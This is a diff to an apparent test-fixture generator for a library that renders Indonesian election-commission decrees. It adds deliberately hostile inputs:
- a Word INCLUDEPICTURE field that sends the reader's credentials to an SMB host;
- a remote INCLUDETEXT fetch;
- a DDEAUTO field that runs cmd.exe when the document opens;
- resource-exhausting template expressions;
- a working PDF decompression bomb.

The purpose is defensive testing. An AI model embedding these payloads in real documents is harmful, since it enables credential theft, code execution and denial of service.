@@ -8,13 +8,18 @@ no reference back into earlier data), is repeated, which is still one valid defl
 from __future__ import annotations
 
 import io
+import random
 import zipfile
 import zlib
 from pathlib import Path
 
+from docx import Document
+
 import kpu_docs
+from kpu_docs import plaintext
 from kpu_docs.word.package import Member, zip_bytes
 from kpu_docs.word.templates import template_dir
+from tests.hostile import build_register
 
 FILES = Path(__file__).parent / "files"
 MB = 1024 * 1024
@@ -198,4 +203,134 @@ def make_all(folder: Path) -> Path:
     code_template(folder / "templat-kode-namespace", b"{{ namespace.__init__.__globals__ }}")
     bad_xml_template(folder / "templat-xml-rusak")
     huge_member_template(folder / "templat-bagian-besar")
+    make_guard(folder)
+    build_register.make_registers(folder / "register")
     return folder
+
+
+# --- issue 16: outputs onto inputs, template fields and exhaustion, PDF bomb, text, names -------
+
+def make_guard(folder: Path) -> None:
+    """The generated cases of the section "issue 16: guard" of cases.yaml."""
+    (folder / "kembar.docx").write_bytes(kpu_docs.render_bytes(kpu_docs.load(FILES / "dasar.yaml")))
+    (folder / "kembar.yaml").write_bytes((FILES / "dasar.yaml").read_bytes())
+    template(folder / "templat-sama", lambda name, content: content)
+    field_template(folder / "templat-includepicture", "word/document.xml", b"<w:body>", _INCLUDEPICTURE)
+    field_template(folder / "templat-includetext", "word/header1.xml", b"</w:hdr>", _INCLUDETEXT)
+    field_template(folder / "templat-ddeauto", "word/footer1.xml", b"</w:ftr>", _DDEAUTO)
+    for name, expression in _EXHAUSTING.items():
+        code_template(folder / f"templat-{name}", expression)
+    (folder / "pdf-bom.pdf").write_bytes(pdf_bomb())
+    shown = b"BT /F1 1 Tf 10 10 Td " + b"(AAAAAAAAAA) Tj " * 30_000 + b" ET"  # 300,000 characters on one page
+    (folder / "pdf-huruf.pdf").write_bytes(pdf(zlib.compress(shown, 9)))
+    capitals = b"KEPUTUSAN KOMISI PEMILIHAN UMUM "
+    (folder / "teks-satu-baris.txt").write_bytes(capitals * ((5 * MB - 100) // len(capitals)))
+    (folder / "teks-nul.txt").write_bytes(b"KEPUTUSAN KOMISI PEMILIHAN UMUM\nNOMOR 5\x00 TAHUN 2025\n")
+    (folder / "teks-acak.txt").write_bytes(random.Random(16).randbytes(200 * 1024))
+    decree = plaintext.text(Document(io.BytesIO(kpu_docs.render_bytes(kpu_docs.load(FILES / "dasar.yaml")))))
+    (folder / "teks-utf16.txt").write_bytes(decree.replace("\n", "\r\n").encode("utf-16"))  # Notepad's "Unicode"
+    (folder / "teks-utf8-bom.txt").write_bytes(decree.encode("utf-8-sig"))
+    (folder / "docx-altchunk.docx").write_bytes(alt_chunk_docx())
+    (folder / "nama-240.csv").write_text("berkas,nomor\n" + "a" * 240 + ",1\n", encoding="utf-8")
+    (folder / "nama-perangkat.csv").write_text("berkas,nomor\nCOM1.docx,1\n", encoding="utf-8")
+
+
+def alt_chunk_docx() -> bytes:
+    """A decree rendered by kpu-docs with a Diktum pasted in as HTML (w:altChunk), which Word
+    shows as part of the text (the importer dropped it without a word)."""
+    data = kpu_docs.render_bytes(kpu_docs.load(FILES / "dasar.yaml"))
+    html = b"<html><body><p>KEEMPAT : Tim Kerja melaporkan hasil kerjanya setiap bulan.</p></body></html>"
+    chunk = b'<w:altChunk r:id="rIdSisipan"/>'
+    rel = (b'<Relationship Id="rIdSisipan" Target="sisipan.html" '
+           b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk"/></Relationships>')
+
+    def change(name: str, content: bytes) -> bytes:
+        if name == "word/document.xml":
+            final = content.rindex(b"<w:sectPr")  # the body's own, after its last paragraph
+            return content[:final] + chunk + content[final:]
+        if name == "word/_rels/document.xml.rels":
+            return content.replace(b"</Relationships>", rel)
+        if name == "[Content_Types].xml":
+            return content.replace(b"</Types>", b'<Default Extension="html" ContentType="text/html"/></Types>')
+        return content
+
+    return _with_member(_rewrite(data, change), "word/sisipan.html", html)
+
+
+def _with_member(data: bytes, name: str, content: bytes) -> bytes:
+    buffer = io.BytesIO(data)
+    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as package:
+        package.writestr(name, content)
+    return buffer.getvalue()
+
+
+def pdf(content: bytes, filters: bytes = b"/Filter /FlateDecode") -> bytes:
+    """A one-page PDF whose page content is the stream `content` (already encoded), with a
+    correct cross-reference table."""
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
+        b"/Resources << /Font << /F1 5 0 R >> >> >>",
+        b"<< /Length %d %s >>\nstream\n" % (len(content), filters) + content + b"\nendstream",
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+    ]
+    out = bytearray(b"%PDF-1.4\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
+    return bytes(out)
+
+
+def pdf_bomb() -> bytes:
+    """A 1 MB PDF whose one content stream inflates to 930 MB of text operators (took 4 GB and
+    the interpreter aborted): a zlib stream made of one compressed block repeated."""
+    unit = b"BT /F1 12 Tf 72 720 Td (bahwa perlu menetapkan keputusan) Tj ET\n" * 16384  # 1 MB
+    packer = zlib.compressobj(9)
+    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)  # the zlib header
+    block = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
+    end = packer.flush()[:-4]  # the final empty block, without the checksum of one unit
+    checksum = 1
+    for _ in range(930):
+        checksum = zlib.adler32(unit, checksum)
+    return pdf(head + block * 930 + end + checksum.to_bytes(4, "big"))
+
+
+_INCLUDEPICTURE = (b'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE  &quot;\\\\contoh.invalid\\share\\logo.png&quot; '
+                   b'\\d "><w:r><w:t>logo</w:t></w:r></w:fldSimple></w:p>')
+"""A picture Word fetches over SMB as the decree opens, handing the server the reader's credentials."""
+_INCLUDETEXT = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+                b'<w:r><w:instrText xml:space="preserve"> Include</w:instrText></w:r>'
+                b'<w:r><w:instrText xml:space="preserve">text "http://contoh.invalid/isi.docx" </w:instrText></w:r>'
+                b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>isi</w:t></w:r>'
+                b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+"""Text fetched from a web address, its field name split across runs and in mixed case."""
+_DDEAUTO = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> IF 1 = 1 "'
+            b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            b'<w:r><w:instrText xml:space="preserve"> ddeauto c:\\windows\\system32\\cmd.exe "/k calc" </w:instrText></w:r>'
+            b'<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText xml:space="preserve">" </w:instrText></w:r>'
+            b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+"""A program run as the decree opens, nested inside an IF field."""
+_EXHAUSTING = {
+    "teks-raksasa": b"{{ 'A' * 10**9 }}",
+    "center-raksasa": b"{{ jabatan_penetap.center(2000000000) }}",
+    "replace-bom": b"{% set a = 'a' * 1000 %}{% set b = a.replace('a', a) %}{{ b.replace('a', b) }}",
+    "daftar-raksasa": b"{{ ([0] * 10**8)|length }}",
+    "range-bersarang": b"{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
+    "rekursi": b"{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
+    "overflow": b"{{ 10**400 / 1.0 }}",
+}
+"""Templates that would take gigabytes or hours, or end in a Python exception (tracebacks before)."""
+
+
+def field_template(folder: Path, part: str, before: bytes, field: bytes) -> Path:
+    """A template with `field` inserted in `part` (after <w:body>, or before the part's last tag)."""
+    def insert(content: bytes) -> bytes:
+        return content.replace(before, before + field, 1) if before == b"<w:body>" else content.replace(before, field + before, 1)
+
+    return template(folder, _only(part, insert))
